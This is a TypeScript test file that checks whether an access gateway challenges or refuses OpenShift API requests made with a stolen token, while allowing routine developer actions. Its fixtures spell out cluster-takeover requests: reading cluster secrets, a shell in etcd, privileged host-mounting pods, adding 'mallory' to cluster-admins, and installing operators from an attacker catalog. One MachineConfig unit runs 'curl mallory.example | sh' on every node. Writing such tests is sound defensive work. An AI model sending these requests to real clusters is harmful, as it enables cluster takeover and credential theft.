import { afterAll, beforeAll } from 'vitest';
import { freshSubjects, KUBE, startBuiltServer, type BuiltServer } from '../support/built-server.js';
import { CHROME, JSON_CT, MERGE, sweepAttacks, sweepRequest, sweepRoutine, sweepSender, type SweepAttack, type SweepRequest as Req } from '../support/platform-sweep.js';

/**
 * OpenShift's own APIs, black-box against the built server with the example policy: what a token
 * does there through the kinds stepgate would otherwise read as "some custom resource in a
 * namespace" (image streams, builds, DeploymentConfigs, templates, OpenShift's users, groups,
 * OAuth and legacy RBAC, cluster configuration, OLM), the `openshift-*` namespaces that run the
 * cluster, `oc`'s own request shapes (`oc tag`, `oc start-build`, `oc debug node/…`, `oc adm
 * groups add-users`), the web console, which passes the API through under `/api/kubernetes/`
 * with the session's token (`console.localhost` is a `kubernetes.proxies` host in the example), and
 * the integrated registry's route (`image-registry.localhost`), where a push moves a tag. Request
 * shapes are openshift/oc's and openshift/console's (the paths of openshift/api's types).
 *
 * Each sensitive action is sent with the victim's token in two states, as attack-rancher.test.ts:
 *
 * - `known`: a one-factor sign-in a minute old, from the victim's office after the victim's own
 *   read by the same client (a copied kubeconfig, malware with the everyday sign-in);
 * - `remote`: two factors a minute old, from a network the victim never used (a phished token).
 *
 * Each must be challenged or refused and name the rule given; the routine neighbours (`oc login`'s
 * discovery, `oc whoami`, `oc new-project`, a developer's own build and rollout in `dev`, the
 * console's pod list and saved preferences) are allowed with the `known` token, so each row can fail.
 */

let server: BuiltServer;
beforeAll(async () => {
  server = await startBuiltServer('openshift');
}, 180_000);
afterAll(async () => {
  await server?.close();
});

const subjects = freshSubjects(() => server.issuer, 'openshift');
const CONSOLE = 'console.localhost';
const REGISTRY = 'image-registry.localhost';
const OC = 'oc/4.17.0 (linux/amd64) kubernetes/b2b1ef3';
const PODMAN = 'containers/5.2.2 (github.com/containers/image)';
const JSONPATCH = { 'content-type': 'application/json-patch+json' };

// oc, the console (Chrome) and the registry's client (podman), each after the victim's own read by it.
const send = sweepSender(() => server, subjects, (req) => {
  const userAgent = req.host === CONSOLE ? CHROME : req.host === REGISTRY ? PODMAN : OC;
  const ownPath = req.host === CONSOLE ? '/api/kubernetes/api/v1/namespaces/dev/pods?limit=250' : req.host === REGISTRY ? '/v2/dev/app/manifests/latest' : '/api/v1/namespaces/dev/pods?limit=500';
  return { userAgent, own: { host: req.host, path: ownPath, userAgent } };
});

const k = (method: string, path: string, body?: unknown, headers?: Record<string, string>): Req => sweepRequest(KUBE, method, path, body, headers);
/** The same request through the web console's API proxy. */
const c = (req: Req): Req => ({ ...req, host: CONSOLE, path: `/api/kubernetes${req.path}` });

const meta = (name: string, namespace?: string) => ({ name, ...(namespace ? { namespace } : {}) });
const IMAGE = 'quay.io/mallory/evil:latest';
/** `oc tag quay.io/mallory/evil:latest app:latest -n <ns>`: oc updates the ImageStreamTag (tag.go), creating it where the update is refused. */
const istag = (ns: string) => ({ kind: 'ImageStreamTag', apiVersion: 'image.openshift.io/v1', metadata: meta('app:latest', ns), tag: { name: 'latest', from: { kind: 'DockerImage', name: IMAGE }, generation: 0, importPolicy: { importMode: 'Legacy' }, referencePolicy: { type: 'Source' } } });
/** `oc import-image app:latest --from=… --confirm`. */
const isimport = (ns: string) => ({ kind: 'ImageStreamImport', apiVersion: 'image.openshift.io/v1', metadata: meta('app', ns), spec: { import: true, images: [{ from: { kind: 'DockerImage', name: IMAGE }, to: { name: 'latest' }, importPolicy: {}, referencePolicy: { type: 'Source' } }] } });
const ismapping = (ns: string) => ({ kind: 'ImageStreamMapping', apiVersion: 'image.openshift.io/v1', metadata: meta('app', ns), image: { metadata: { name: 'sha256:0f3c4e9b5a6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f' }, dockerImageReference: `quay.io/mallory/evil@sha256:0f3c4e9b5a6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f` }, tag: 'latest' });
const PRIVILEGED_TEMPLATE = {
  metadata: { labels: { app: 'app' } },
  spec: {
    hostPID: true,
    containers: [{ name: 'app', image: IMAGE, securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  },
};
const DC = { kind: 'DeploymentConfig', apiVersion: 'apps.openshift.io/v1', metadata: meta('app', 'dev'), spec: { replicas: 1, selector: { app: 'app' }, template: PRIVILEGED_TEMPLATE, triggers: [{ type: 'ConfigChange' }] } };
const CUSTOM_BC = {
  kind: 'BuildConfig',
  apiVersion: 'build.openshift.io/v1',
  metadata: meta('app', 'dev'),
  spec: { source: { git: { uri: 'https://github.com/mallory/app' } }, strategy: { type: 'Custom', customStrategy: { from: { kind: 'DockerImage', name: IMAGE }, exposeDockerSocket: true } }, output: { to: { kind: 'ImageStreamTag', name: 'app:latest' } } },
};
/** `oc debug node/worker-0`: the pod oc creates in its temporary `openshift-debug-*` namespace (debug.go). */
const NODE_DEBUG_POD = {
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name: 'worker-0-debug-x7k2q', namespace: 'openshift-debug-x7k2q', annotations: { 'debug.openshift.io/source-container': 'container-00', 'debug.openshift.io/source-resource': '/v1, Resource=nodes/worker-0' } },
  spec: {
    nodeName: 'worker-0',
    hostNetwork: true,
    hostPID: true,
    hostIPC: true,
    restartPolicy: 'Never',
    containers: [{ name: 'container-00', image: 'registry.redhat.io/rhel9/support-tools', command: ['/bin/sh'], stdin: true, tty: true, securityContext: { privileged: true, runAsUser: 0 }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
    volumes: [{ name: 'host', hostPath: { path: '/', type: 'Directory' } }],
  },
};
const TEMPLATE_INSTANCE = {
  kind: 'TemplateInstance',
  apiVersion: 'template.openshift.io/v1',
  metadata: meta('app', 'dev'),
  spec: {
    secret: { name: 'app-parameters' },
    template: {
      metadata: { name: 'app' },
      parameters: [{ name: 'WHO', required: true }],
      objects: [
        { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'helper' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'admin' }, subjects: [{ kind: 'User', name: '${WHO}' }] },
        { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app' }, data: { a: 'b' } },
      ],
    },
  },
};
const OPENSHIFT_ROLEBINDING = { kind: 'RoleBinding', apiVersion: 'authorization.openshift.io/v1', metadata: meta('mallory-admin', 'prod-payments'), roleRef: { name: 'admin' }, subjects: [{ kind: 'User', name: 'mallory' }], userNames: ['mallory'] };
const SUBSCRIPTION = { kind: 'Subscription', apiVersion: 'operators.coreos.com/v1alpha1', metadata: meta('helper', 'openshift-operators'), spec: { channel: 'stable', name: 'helper', source: 'mallory-index', sourceNamespace: 'openshift-marketplace', installPlanApproval: 'Automatic' } };
const CATALOG = { kind: 'CatalogSource', apiVersion: 'operators.coreos.com/v1alpha1', metadata: meta('mallory-index', 'openshift-marketplace'), spec: { sourceType: 'grpc', image: 'quay.io/mallory/index:latest', displayName: 'Community' } };
const EXEC_ETCD = '/api/v1/namespaces/openshift-etcd/pods/etcd-master-0/exec?command=%2Fbin%2Fsh&container=etcdctl&stdin=true&stdout=true&tty=true';

type Attack = SweepAttack;

const ATTACKS: readonly Attack[] = [
  {
    what: "the cluster's pull secret and identity providers' secrets (openshift-config)",
    rule: 'openshift-secrets',
    via: [
      ['oc get secret', k('GET', '/api/v1/namespaces/openshift-config/secrets/pull-secret')],
      ['oc extract (a list of the namespace)', k('GET', '/api/v1/namespaces/openshift-config/secrets')],
      ["the console's proxy", c(k('GET', '/api/v1/namespaces/openshift-config/secrets/htpass-secret'))],
    ],
  },
  {
    what: "etcd's and the API server's own Secrets",
    rule: 'openshift-secrets',
    via: [
      ['etcd-all-certs', k('GET', '/api/v1/namespaces/openshift-etcd/secrets/etcd-all-certs')],
      ["the API server's recovery token", k('GET', '/api/v1/namespaces/openshift-kube-apiserver/secrets/localhost-recovery-client-token')],
    ],
  },
  {
    what: 'a shell in etcd (oc rsh)',
    rule: 'openshift-pod-access',
    via: [
      ['oc rsh', k('POST', EXEC_ETCD)],
      ["the console's terminal (WebSocket through the proxy)", c(k('GET', EXEC_ETCD, undefined, { connection: 'Upgrade', upgrade: 'websocket' }))],
    ],
  },
  {
    what: "a write in the cluster's own namespaces (a Secret added for an identity provider)",
    rule: 'openshift-writes',
    via: [['oc create secret', k('POST', '/api/v1/namespaces/openshift-config/secrets', { apiVersion: 'v1', kind: 'Secret', metadata: meta('idp-mallory', 'openshift-config'), stringData: { clientSecret: 'x' } })]],
  },
  {
    what: "an identity provider's Secret replaced in openshift-config (a system namespace's Secret)",
    rule: 'guardrail:system_namespace_secret',
    via: [['oc replace secret', k('PUT', '/api/v1/namespaces/openshift-config/secrets/github-client-secret', { apiVersion: 'v1', kind: 'Secret', metadata: meta('github-client-secret', 'openshift-config'), stringData: { clientSecret: 'mallory' } })]],
  },
  {
    what: 'a workload created in an openshift-* namespace (as its operator account)',
    rule: 'openshift-workload-creates',
    via: [['oc create deployment', k('POST', '/apis/apps/v1/namespaces/openshift-monitoring/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: meta('helper', 'openshift-monitoring'), spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: { serviceAccountName: 'prometheus-k8s', containers: [{ name: 'c', image: IMAGE }] } } } })]],
  },
  {
    what: 'oc debug node/worker-0 (a privileged pod in the node\'s namespaces, / mounted)',
    rule: 'guardrail:privileged_container',
    via: [['oc debug node', k('POST', '/api/v1/namespaces/openshift-debug-x7k2q/pods', NODE_DEBUG_POD)]],
  },
  {
    what: "an image stream tag repointed at another image (oc tag): every trigger that follows it redeploys",
    rule: 'openshift-image-sources',
    via: [
      ['oc tag, in a build namespace production follows', k('PUT', '/apis/image.openshift.io/v1/namespaces/builds/imagestreamtags/app:latest', istag('builds'))],
      ['oc tag, the create fallback', k('POST', '/apis/image.openshift.io/v1/namespaces/builds/imagestreamtags', istag('builds'))],
      ['oc tag, in production', k('PUT', '/apis/image.openshift.io/v1/namespaces/prod-payments/imagestreamtags/app:latest', istag('prod-payments'))],
      ['an ImageStreamMapping', k('POST', '/apis/image.openshift.io/v1/namespaces/builds/imagestreammappings', ismapping('builds'))],
      ["the console's proxy", c(k('PUT', '/apis/image.openshift.io/v1/namespaces/builds/imagestreamtags/app:latest', istag('builds')))],
    ],
  },
  {
    what: "an image stream's tags rewritten in the stream itself, or imported from another image",
    rule: 'guardrail:gitops_source_change',
    via: [
      ['oc import-image', k('POST', '/apis/image.openshift.io/v1/namespaces/builds/imagestreamimports', isimport('builds'))],
      ['oc tag, the legacy fallback (an update of the stream)', k('PUT', '/apis/image.openshift.io/v1/namespaces/builds/imagestreams/app', { kind: 'ImageStream', apiVersion: 'image.openshift.io/v1', metadata: meta('app', 'builds'), spec: { tags: [{ name: 'latest', from: { kind: 'DockerImage', name: IMAGE } }] } })],
      ['a JSON patch of spec.tags', k('PATCH', '/apis/image.openshift.io/v1/namespaces/builds/imagestreams/app', [{ op: 'replace', path: '/spec/tags/0/from/name', value: IMAGE }], JSONPATCH)],
      ['oc patch is', k('PATCH', '/apis/image.openshift.io/v1/namespaces/builds/imagestreams/app', { spec: { tags: [{ name: 'latest', from: { kind: 'DockerImage', name: IMAGE } }] } }, MERGE)],
      ["the console's YAML editor (a replace through the proxy)", c(k('PUT', '/apis/image.openshift.io/v1/namespaces/builds/imagestreams/app', { kind: 'ImageStream', apiVersion: 'image.openshift.io/v1', metadata: meta('app', 'builds'), spec: { tags: [{ name: 'latest', from: { kind: 'DockerImage', name: IMAGE } }] } }))],
    ],
  },
  {
    what: "the developer catalog's Template (in `openshift`) rewritten: every project instantiates it next",
    rule: 'openshift-writes',
    via: [['oc replace', k('PUT', '/apis/template.openshift.io/v1/namespaces/openshift/templates/postgresql-persistent', { kind: 'Template', apiVersion: 'template.openshift.io/v1', metadata: meta('postgresql-persistent', 'openshift'), objects: [{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x' }, spec: { containers: [{ name: 'c', image: IMAGE }] } }] })]],
  },
  {
    what: "a token for an OpenShift operator's service account (cluster-admin)",
    rule: 'guardrail:service_account_token_privileged',
    via: [['oc create token', k('POST', '/api/v1/namespaces/openshift-cluster-version/serviceaccounts/default/token', { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', spec: { audiences: ['https://kubernetes.default.svc'], expirationSeconds: 86400 } })]],
  },
  {
    what: "acting as an OpenShift operator's service account (oc --as)",
    rule: 'guardrail:impersonation_privileged',
    via: [['oc get configmaps --as', k('GET', '/api/v1/namespaces/dev/configmaps', undefined, { 'impersonate-user': 'system:serviceaccount:openshift-cluster-version:default' })]],
  },
  {
    what: 'a build in production (oc start-build, from an uploaded archive)',
    rule: 'prod-writes',
    via: [
      ['oc start-build', k('POST', '/apis/build.openshift.io/v1/namespaces/prod-payments/buildconfigs/app/instantiate', { kind: 'BuildRequest', apiVersion: 'build.openshift.io/v1', metadata: meta('app') })],
      ['oc start-build --from-dir', k('POST', '/apis/build.openshift.io/v1/namespaces/prod-payments/buildconfigs/app/instantiatebinary?asFile=app.tar.gz&name=app&namespace=prod-payments', 'PK\u0003\u0004 an archive', { 'content-type': 'application/octet-stream' })],
    ],
  },
  {
    what: 'a custom-strategy BuildConfig (its builder runs privileged, the node\'s container runtime exposed)',
    rule: 'guardrail:privileged_container',
    via: [['oc create -f', k('POST', '/apis/build.openshift.io/v1/namespaces/dev/buildconfigs', CUSTOM_BC)]],
  },
  {
    what: 'a DeploymentConfig with a privileged, host-mounting pod template',
    rule: 'guardrail:privileged_container',
    via: [
      ['oc create -f', k('POST', '/apis/apps.openshift.io/v1/namespaces/dev/deploymentconfigs', DC)],
      ["the console's proxy", c(k('POST', '/apis/apps.openshift.io/v1/namespaces/dev/deploymentconfigs', DC))],
    ],
  },
  {
    what: 'a DeploymentConfig in production rolled out or back',
    rule: 'prod-writes',
    via: [
      ['oc rollout latest', k('POST', '/apis/apps.openshift.io/v1/namespaces/prod-payments/deploymentconfigs/app/instantiate', { kind: 'DeploymentRequest', apiVersion: 'apps.openshift.io/v1', name: 'app', latest: true, force: true })],
      ['oc rollback', k('POST', '/apis/apps.openshift.io/v1/namespaces/prod-payments/deploymentconfigs/app/rollback', { kind: 'DeploymentConfigRollback', apiVersion: 'apps.openshift.io/v1', name: 'app', spec: { from: { name: 'app-3' }, includeTemplate: true } })],
    ],
  },
  {
    what: "a TemplateInstance (its objects created with the requester's rights, parameters from a Secret)",
    rule: 'openshift-template-instances',
    via: [
      ['oc create -f', k('POST', '/apis/template.openshift.io/v1/namespaces/dev/templateinstances', TEMPLATE_INSTANCE)],
      ["the console's proxy", c(k('POST', '/apis/template.openshift.io/v1/namespaces/dev/templateinstances', TEMPLATE_INSTANCE))],
    ],
  },
  {
    what: 'a production project deleted (its namespace and everything in it)',
    rule: 'guardrail:delete_protected',
    via: [
      ['oc delete project', k('DELETE', '/apis/project.openshift.io/v1/projects/prod-payments')],
      ["the console's proxy", c(k('DELETE', '/apis/project.openshift.io/v1/projects/prod-payments'))],
    ],
  },
  {
    what: 'oc adm groups add-users cluster-admins mallory',
    rule: 'cluster-add-on-objects',
    via: [
      ['oc (an update of the Group)', k('PUT', '/apis/user.openshift.io/v1/groups/cluster-admins', { kind: 'Group', apiVersion: 'user.openshift.io/v1', metadata: meta('cluster-admins'), users: ['alice', 'mallory'] })],
      ["the console's proxy (a JSON patch)", c(k('PATCH', '/apis/user.openshift.io/v1/groups/cluster-admins', [{ op: 'add', path: '/users/-', value: 'mallory' }], JSONPATCH))],
    ],
  },
  {
    what: 'a user, an identity or its mapping created (sign in as anyone)',
    rule: 'cluster-add-on-objects',
    via: [
      ['a User', k('POST', '/apis/user.openshift.io/v1/users', { kind: 'User', apiVersion: 'user.openshift.io/v1', metadata: meta('mallory') })],
      ['an Identity', k('POST', '/apis/user.openshift.io/v1/identities', { kind: 'Identity', apiVersion: 'user.openshift.io/v1', metadata: meta('github:mallory'), providerName: 'github', providerUserName: 'mallory' })],
      ['a UserIdentityMapping to the admin', k('POST', '/apis/user.openshift.io/v1/useridentitymappings', { kind: 'UserIdentityMapping', apiVersion: 'user.openshift.io/v1', metadata: meta('github:mallory'), user: { name: 'kube:admin' } })],
    ],
  },
  {
    what: 'an OAuth client with a redirect URI of the attacker, or an access token minted',
    rule: 'cluster-add-on-objects',
    via: [
      ['an OAuthClient', k('POST', '/apis/oauth.openshift.io/v1/oauthclients', { kind: 'OAuthClient', apiVersion: 'oauth.openshift.io/v1', metadata: meta('helper'), grantMethod: 'auto', redirectURIs: ['https://mallory.example/cb'] })],
      ['an OAuthAccessToken', k('POST', '/apis/oauth.openshift.io/v1/oauthaccesstokens', { kind: 'OAuthAccessToken', apiVersion: 'oauth.openshift.io/v1', metadata: meta('sha256~mallory0123456789abcdef0123456789abcdef012'), clientName: 'openshift-challenging-client', userName: 'kube:admin', scopes: ['user:full'], expiresIn: 0 })],
    ],
  },
  {
    what: 'a SecurityContextConstraints opened (oc adm policy add-scc-to-user privileged, by editing the SCC)',
    rule: 'cluster-add-on-objects',
    via: [['a patch of the SCC', k('PATCH', '/apis/security.openshift.io/v1/securitycontextconstraints/privileged', [{ op: 'add', path: '/users/-', value: 'system:serviceaccount:dev:default' }], JSONPATCH)]],
  },
  {
    what: 'oc adm policy add-scc-to-user privileged -z default (the RBAC form)',
    rule: 'rbac-writes',
    via: [['a RoleBinding to the SCC\'s ClusterRole', k('POST', '/apis/rbac.authorization.k8s.io/v1/namespaces/dev/rolebindings', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: meta('system:openshift:scc:privileged', 'dev'), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'system:openshift:scc:privileged' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'dev' }] })]],
  },
  {
    what: 'RBAC through the legacy authorization.openshift.io API',
    rule: 'openshift-rbac-writes',
    via: [
      ['a RoleBinding', k('POST', '/apis/authorization.openshift.io/v1/namespaces/prod-payments/rolebindings', OPENSHIFT_ROLEBINDING)],
      ['a ClusterRoleBinding', k('POST', '/apis/authorization.openshift.io/v1/clusterrolebindings', { kind: 'ClusterRoleBinding', apiVersion: 'authorization.openshift.io/v1', metadata: meta('mallory'), roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }], userNames: ['mallory'] })],
      ['a Role', k('PUT', '/apis/authorization.openshift.io/v1/namespaces/dev/roles/reader', { kind: 'Role', apiVersion: 'authorization.openshift.io/v1', metadata: meta('reader', 'dev'), rules: [{ verbs: ['*'], resources: ['*'], apiGroups: ['*'] }] })],
      ["the console's proxy", c(k('POST', '/apis/authorization.openshift.io/v1/namespaces/dev/rolebindings', { ...OPENSHIFT_ROLEBINDING, metadata: meta('mallory-admin', 'dev') }))],
    ],
  },
  {
    what: "the cluster's configuration (an identity provider, the update server, the registries allowed)",
    rule: 'cluster-add-on-objects',
    via: [
      ['an OAuth identity provider', k('PATCH', '/apis/config.openshift.io/v1/oauths/cluster', { spec: { identityProviders: [{ name: 'helper', type: 'OpenID', mappingMethod: 'add', openID: { clientID: 'x', clientSecret: { name: 'idp-mallory' }, issuer: 'https://mallory.example' } }] } }, MERGE)],
      ['the ClusterVersion upstream', k('PATCH', '/apis/config.openshift.io/v1/clusterversions/version', { spec: { upstream: 'https://mallory.example/graph', channel: 'stable-4.17' } }, MERGE)],
      ['the image registries allowed', k('PATCH', '/apis/config.openshift.io/v1/images/cluster', { spec: { registrySources: { insecureRegistries: ['mallory.example'] } } }, MERGE)],
      ['a MachineConfig (a file and a unit on every worker, as root)', k('POST', '/apis/machineconfiguration.openshift.io/v1/machineconfigs', { apiVersion: 'machineconfiguration.openshift.io/v1', kind: 'MachineConfig', metadata: { name: '99-worker-helper', labels: { 'machineconfiguration.openshift.io/role': 'worker' } }, spec: { config: { ignition: { version: '3.2.0' }, systemd: { units: [{ name: 'helper.service', enabled: true, contents: '[Service]\nExecStart=/bin/sh -c "curl mallory.example | sh"\n[Install]\nWantedBy=multi-user.target' }] } } } })],
      ['a ConsolePlugin (script in every console session)', k('POST', '/apis/console.openshift.io/v1/consoleplugins', { apiVersion: 'console.openshift.io/v1', kind: 'ConsolePlugin', metadata: meta('helper'), spec: { displayName: 'Helper', backend: { type: 'Service', service: { name: 'helper', namespace: 'dev', port: 9443, basePath: '/' } } } })],
      ['the plugin enabled in the console operator', k('PATCH', '/apis/operator.openshift.io/v1/consoles/cluster', [{ op: 'add', path: '/spec/plugins/-', value: 'helper' }], JSONPATCH)],
    ],
  },
  {
    what: "an operator installed from the attacker's catalog (OLM, namespaced)",
    rule: 'olm-objects',
    via: [
      ['a CatalogSource', k('POST', '/apis/operators.coreos.com/v1alpha1/namespaces/openshift-marketplace/catalogsources', CATALOG)],
      ['a Subscription', k('POST', '/apis/operators.coreos.com/v1alpha1/namespaces/openshift-operators/subscriptions', SUBSCRIPTION)],
      ['a Subscription in a team namespace', k('POST', '/apis/operators.coreos.com/v1alpha1/namespaces/dev/subscriptions', { ...SUBSCRIPTION, metadata: meta('helper', 'dev') })],
      ['an InstallPlan approved', k('PATCH', '/apis/operators.coreos.com/v1alpha1/namespaces/openshift-operators/installplans/install-x7k2q', { spec: { approved: true } }, MERGE)],
      ["the console's OperatorHub (through the proxy)", c(k('POST', '/apis/operators.coreos.com/v1alpha1/namespaces/openshift-operators/subscriptions', SUBSCRIPTION))],
    ],
  },
  {
    what: "an image pushed over a production image stream's tag through the integrated registry",
    rule: 'openshift-registry-pushes',
    via: [
      ['podman push (the manifest)', { host: REGISTRY, method: 'PUT', path: '/v2/prod-payments/app/manifests/latest', body: '{"schemaVersion":2}', headers: { 'content-type': 'application/vnd.oci.image.manifest.v1+json' } }],
      ['skopeo delete', { host: REGISTRY, method: 'DELETE', path: '/v2/payments-prod/app/manifests/sha256:0f3c4e9b5a6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f' }],
    ],
  },
  {
    what: "a Helm chart installed by the console's backend (its manifests are not in the request)",
    rule: 'openshift-console-helm',
    via: [
      ['an install', { host: CONSOLE, method: 'POST', path: '/api/helm/release', body: { name: 'helper', namespace: 'dev', chart_url: 'https://mallory.example/helper-0.1.0.tgz', values: {} }, headers: JSON_CT }],
      ['an install, asynchronously', { host: CONSOLE, method: 'POST', path: '/api/helm/release/async', body: { name: 'helper', namespace: 'dev', chart_url: 'https://mallory.example/helper-0.1.0.tgz', values: {} }, headers: JSON_CT }],
      ['an upgrade', { host: CONSOLE, method: 'PUT', path: '/api/helm/release', body: { name: 'app', namespace: 'prod-payments', chart_url: 'https://mallory.example/helper-0.1.0.tgz', values: {} }, headers: JSON_CT }],
    ],
  },
];

sweepAttacks(ATTACKS, send);

/** The routine neighbours: allowed with the everyday sign-in from the office. */
const ROUTINE: readonly [string, Req][] = [
  ["oc login's discovery", k('GET', '/.well-known/oauth-authorization-server')],
  ["oc login's version check", k('GET', '/version')],
  ['oc whoami', k('GET', '/apis/user.openshift.io/v1/users/~')],
  ['oc projects', k('GET', '/apis/project.openshift.io/v1/projects')],
  ['oc project dev', k('GET', '/apis/project.openshift.io/v1/projects/dev')],
  ['oc new-project', k('POST', '/apis/project.openshift.io/v1/projectrequests', { kind: 'ProjectRequest', apiVersion: 'project.openshift.io/v1', metadata: meta('alice-sandbox'), displayName: 'Sandbox' })],
  ['oc get pods', k('GET', '/api/v1/namespaces/dev/pods?limit=500')],
  ['oc get is -n prod-payments', k('GET', '/apis/image.openshift.io/v1/namespaces/prod-payments/imagestreams?limit=500')],
  ['oc describe istag', k('GET', '/apis/image.openshift.io/v1/namespaces/prod-payments/imagestreamtags/app:latest')],
  ['oc start-build in dev', k('POST', '/apis/build.openshift.io/v1/namespaces/dev/buildconfigs/app/instantiate', { kind: 'BuildRequest', apiVersion: 'build.openshift.io/v1', metadata: meta('app') })],
  ['oc start-build --from-dir in dev', k('POST', '/apis/build.openshift.io/v1/namespaces/dev/buildconfigs/app/instantiatebinary?asFile=app.tar.gz&name=app&namespace=dev', 'PK\u0003\u0004 an archive', { 'content-type': 'application/octet-stream' })],
  ['an image stream created in dev (oc create imagestream)', k('POST', '/apis/image.openshift.io/v1/namespaces/dev/imagestreams', { kind: 'ImageStream', apiVersion: 'image.openshift.io/v1', metadata: meta('app', 'dev'), spec: { lookupPolicy: { local: false } } })],
  ['a docker-strategy BuildConfig in dev (oc new-build)', k('POST', '/apis/build.openshift.io/v1/namespaces/dev/buildconfigs', { kind: 'BuildConfig', apiVersion: 'build.openshift.io/v1', metadata: meta('app', 'dev'), spec: { source: { git: { uri: 'https://github.com/example/app' } }, strategy: { type: 'Docker', dockerStrategy: {} }, output: { to: { kind: 'ImageStreamTag', name: 'app:latest' } } } })],
  ['a workload in a team namespace with an OpenShift image trigger', k('POST', '/apis/apps/v1/namespaces/dev/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'app', namespace: 'dev', annotations: { 'image.openshift.io/triggers': '[{"from":{"kind":"ImageStreamTag","name":"app:latest"},"fieldPath":"spec.template.spec.containers[?(@.name==\\"app\\")].image"}]' } }, spec: { selector: { matchLabels: { app: 'app' } }, template: { metadata: { labels: { app: 'app' } }, spec: { containers: [{ name: 'app', image: 'image-registry.openshift-image-registry.svc:5000/dev/app:latest' }] } } } })],
  ["oc new-app's image lookup (an ImageStreamImport that stores nothing)", k('POST', '/apis/image.openshift.io/v1/namespaces/dev/imagestreamimports', { kind: 'ImageStreamImport', apiVersion: 'image.openshift.io/v1', metadata: meta('newapp', 'dev'), spec: { import: false, images: [{ from: { kind: 'DockerImage', name: 'quay.io/example/app:1.4' } }] } })],
  ["the console's Deploy Image lookup", c(k('POST', '/apis/image.openshift.io/v1/namespaces/dev/imagestreamimports', { kind: 'ImageStreamImport', apiVersion: 'image.openshift.io/v1', metadata: meta('newapp', 'dev'), spec: { images: [{ from: { kind: 'DockerImage', name: 'quay.io/example/app:1.4' } }] } }))],
  ['oc set image-lookup', k('PATCH', '/apis/image.openshift.io/v1/namespaces/dev/imagestreams/app', { spec: { lookupPolicy: { local: true } } }, { 'content-type': 'application/strategic-merge-patch+json' })],
  ['oc label is', k('PATCH', '/apis/image.openshift.io/v1/namespaces/dev/imagestreams/app', { metadata: { labels: { team: 'web' } } }, MERGE)],
  ['oc logs -f bc/app', k('GET', '/apis/build.openshift.io/v1/namespaces/dev/builds/app-4/log?follow=true')],
  ['oc rollout latest dc/app in dev', k('POST', '/apis/apps.openshift.io/v1/namespaces/dev/deploymentconfigs/app/instantiate', { kind: 'DeploymentRequest', apiVersion: 'apps.openshift.io/v1', name: 'app', latest: true, force: true })],
  ['oc process (rendered on the server, nothing created)', k('POST', '/apis/template.openshift.io/v1/namespaces/dev/processedtemplates', { kind: 'Template', apiVersion: 'template.openshift.io/v1', metadata: meta('app'), objects: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app' } }], parameters: [] })],
  ['oc whoami --show-console', k('GET', '/api/v1/namespaces/openshift-config-managed/configmaps/console-public')],
  ["the console's pod list", c(k('GET', '/api/v1/namespaces/dev/pods?limit=250'))],
  ["the console's page", { host: CONSOLE, method: 'GET', path: '/k8s/ns/dev/pods' }],
  ["the console's saved preferences", c(k('PATCH', '/api/v1/namespaces/openshift-console-user-settings/configmaps/user-settings-7c9f6b5d', { data: { 'console.theme': 'dark' } }, MERGE))],
  ['podman pull from production', { host: REGISTRY, method: 'GET', path: '/v2/prod-payments/app/manifests/latest' }],
  ['podman push to dev', { host: REGISTRY, method: 'PUT', path: '/v2/dev/app/manifests/latest', body: '{"schemaVersion":2}', headers: { 'content-type': 'application/vnd.oci.image.manifest.v1+json' } }],
  ["a push's blob upload to production", { host: REGISTRY, method: 'PUT', path: '/v2/prod-payments/app/blobs/uploads/5f0c2b1e?digest=sha256:0f3c4e9b5a6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f', body: 'layer bytes', headers: { 'content-type': 'application/octet-stream' } }],
  ["the console's Helm release list", { host: CONSOLE, method: 'GET', path: '/api/helm/releases?ns=dev&limit_info=true' }],
];

sweepRoutine(ROUTINE, send);
